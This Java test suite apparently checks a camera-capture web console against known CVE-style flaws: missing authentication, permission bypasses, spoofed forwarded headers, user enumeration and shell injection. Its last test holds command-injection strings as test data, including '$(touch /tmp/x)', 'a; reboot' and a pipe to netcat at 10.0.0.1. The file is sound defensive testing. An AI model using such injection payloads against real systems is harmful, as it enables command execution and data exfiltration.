package dev.diptych.capture.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.diptych.capture.access.Permission;
import dev.diptych.capture.daemon.Command;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What others' consoles were broken by, tried on this one: who is let in. */
class ConsoleSecurityTest {
    @TempDir
    static Path folder = Path.of("");

    private static ConsoleUnderTest web;
    private static RouteCalls calls;
    private static String all;
    private static String cookie;

    @BeforeAll
    static void start() throws Exception {
        web = ConsoleUnderTest.on(folder);
        calls = new RouteCalls(web);
        all = web.token(Permission.values());
        cookie = web.pairedAs("anna");
    }

    @AfterAll
    static void stop() {
        web.close();
    }

    /** motionEye CVE-2026-55863, OctoPrint-SpoolManager CVE-2025-62169: one way in had been forgotten, or had opted out. */
    @TestFactory
    Stream<DynamicTest> cve202655863NothingButThePublicRoutesAnswersWithoutCredentials() {
        List<Route> routes = web.console.table().routes();
        Set<String> open = Set.of("/api/v1/me", "/api/v1/pairing", "/api/v1/sign-in", "/", "/app/<path>",
                "/webjars/<path>", "/api/v1/openapi.json");
        return routes.stream()
                .map(route -> DynamicTest.dynamicTest(route.method() + " " + route.path(), () -> {
                    assertEquals(open.contains(route.path()), route.guard().everybody());
                    int status = calls.ask(route, calls.to(route)).statusCode();
                    assertEquals(!route.guard().everybody(), status == 401, "status " + status);
                }));
    }

    @TestFactory
    Stream<DynamicTest> aTokenWithEveryOtherPermissionIsNotEnough() throws Exception {
        return web.console.table()
                .routes()
                .stream()
                .filter(route -> !route.guard().anyOf().isEmpty())
                .map(route -> DynamicTest.dynamicTest(route.method() + " " + route.path(), () -> {
                    Set<Permission> others = EnumSet.allOf(Permission.class);
                    others.removeAll(route.guard().anyOf());
                    String token = web.token(others.toArray(Permission[]::new));
                    HttpRequest.Builder request = calls.to(route)
                            .header("Authorization", "Bearer " + token);
                    assertEquals(403, calls.ask(route, request).statusCode());
                }));
    }

    /** Frigate CVE-2026-75607: the socket lacked the check that HTTP had. */
    @ParameterizedTest
    @CsvSource({"/api/v1/events, PREVIEW", "/api/v1/live, WATCH"})
    void cve202675607SocketsAskTheSameQuestion(String path, Permission other) throws Exception {
        assertTrue(calls.upgrade(path, "").startsWith("HTTP/1.1 401 "), "nobody");
        assertTrue(
                calls.upgrade(path, "Authorization: Bearer " + web.token(other) + "\r\n").startsWith("HTTP/1.1 403 "),
                "somebody else");
        assertTrue(calls.upgrade(path, "Authorization: Bearer " + all + "\r\n").startsWith("HTTP/1.1 101 "));
    }

    /** OctoPrint CVE-2024-32977: whoever said that they came from this computer was signed in. */
    @Test
    void cve202432977ForwardedHeadersSayNothing() {
        HttpResponse<String> answer = web.send(web.request("/api/v1/state")
                .header("X-Forwarded-For", "127.0.0.1")
                .header("X-Real-Ip", "127.0.0.1")
                .header("Forwarded", "for=127.0.0.1")
                .header("X-Remote-User", "anna"));

        assertEquals(401, answer.statusCode());
    }

    /** motionEye CVE-2026-46488: the hash of a password, or of a token, let its finder in. */
    @Test
    void cve202646488WhatTheFileHoldsLetsNobodyIn() throws Exception {
        String file = Files.readString(folder.resolve("state/access.json"));
        List<String> hashes = Pattern.compile("\"(?:sha256|password_hash)\" : \"([^\"]+)\"")
                .matcher(file)
                .results()
                .map(it -> it.group(1))
                .toList();

        assertFalse(hashes.isEmpty());
        for (String hash : hashes) {
            assertEquals(401, web.get("/api/v1/state", hash).statusCode());
        }
        assertFalse(file.contains(all) || file.contains(cookie) || file.contains(ConsoleUnderTest.PASSWORD));
    }

    /** Frigate CVE-2026-75608, CVE-2026-33470: the route was allowed, the object was another's. */
    @Test
    void cve202633470WhoeverSeesTheOpenSessionDoesNotSeeAnother() throws Exception {
        String preview = web.token(Permission.PREVIEW);
        String export = web.token(Permission.EXPORT);
        String other = "/api/v1/pairs/" + FakeRig.OF_ANOTHER_SESSION + "/pictures/studio";

        assertEquals(200, web.get("/api/v1/pairs/" + FakeRig.PAIR + "/pictures/studio", preview).statusCode());
        assertEquals(403, web.get(other, preview).statusCode());
        assertEquals(200, web.get(other, export).statusCode());

        String watch = web.token(Permission.WATCH);
        String shot = "/api/v1/pairs/" + FakeRig.OF_ANOTHER_SESSION + "/shot";
        assertEquals(200, web.get("/api/v1/pairs/" + FakeRig.PAIR + "/shot", watch).statusCode());
        assertEquals(403, web.get(shot, watch).statusCode());
        assertEquals(404, web.get(shot, export).statusCode());
    }

    /** OctoPrint CVE-2025-48067, CVE-2026-54134: what was internal could be sent along. */
    @Test
    void cve202554134NobodyNamesThemselvesOrAddsKeys() {
        String extra = "{\"trigger_id\":\"t\",\"waits\":true,\"caller\":\"anna\"}";

        assertEquals(400, web.post("/api/v1/captures", all, extra).statusCode());
        assertEquals(401, web.send(web.request("/api/v1/state?token=" + all + "&caller=anna")).statusCode());
    }

    /** Moonraker CVE-2026-24130: what an error said told which names there are. */
    @Test
    void cve202624130EveryFailureToSignInIsToldInTheSameWords() {
        List<String> failures = new ArrayList<>();
        for (String json : List.of("{\"name\":\"anna\",\"password\":\"not hers at all\"}",
                "{\"name\":\"nobody\",\"password\":\"not hers at all\"}",
                "{\"name\":\"*)(uid=*\",\"password\":\"not hers at all\"}")) {
            HttpResponse<String> answer = web.post("/api/v1/sign-in", "", json);
            failures.add(answer.statusCode() + answer.body());
        }
        HttpResponse<String> paired = web.post("/api/v1/pairing", "",
                "{\"code\":\"000000\",\"name\":\"bert\",\"password\":\"not hers at all\"}");
        failures.add(paired.statusCode() + paired.body());

        assertEquals(1, Set.copyOf(failures).size(), failures.toString());
        assertTrue(failures.getFirst().startsWith("401"), failures.getFirst());
    }

    /** motionEye CVE-2022-25568: without a password everything could be read. */
    @ParameterizedTest
    @ValueSource(strings = {"/api/v1/sign-in", "/api/v1/pairing"})
    void cve202225568NobodySignsInWithoutAPassword(String path) {
        for (String password : List.of("\"\"", "null", "\"short\"")) {
            HttpResponse<String> answer = web.post(path, "",
                    "{\"code\":\"000000\",\"name\":\"anna\",\"password\":" + password + "}");
            assertTrue(answer.statusCode() == 400 || answer.statusCode() == 401, answer.body());
            assertEquals(Optional.empty(), answer.headers().firstValue("Set-Cookie"));
        }
    }

    /** motionEye CVE-2025-60787, CVE-2025-47782: what was typed into a field was run by a shell. */
    @ParameterizedTest
    @ValueSource(strings = {"$(touch /tmp/x)", "`id`", "a; reboot", "a | nc 10.0.0.1 1", "a && id", "a\nid"})
    void cve202560787WhatIsTypedReachesTheRigAsItIs(String typed) {
        String json = "{\"operator\":\"" + typed.replace("\n", "\\n") + "\"}";

        assertEquals(202, web.post("/api/v1/sessions", all, json).statusCode());

        Command.StartSession start = (Command.StartSession) web.rig.asked.getLast();
        assertEquals(Optional.of(typed), start.wish().operator());
    }
}
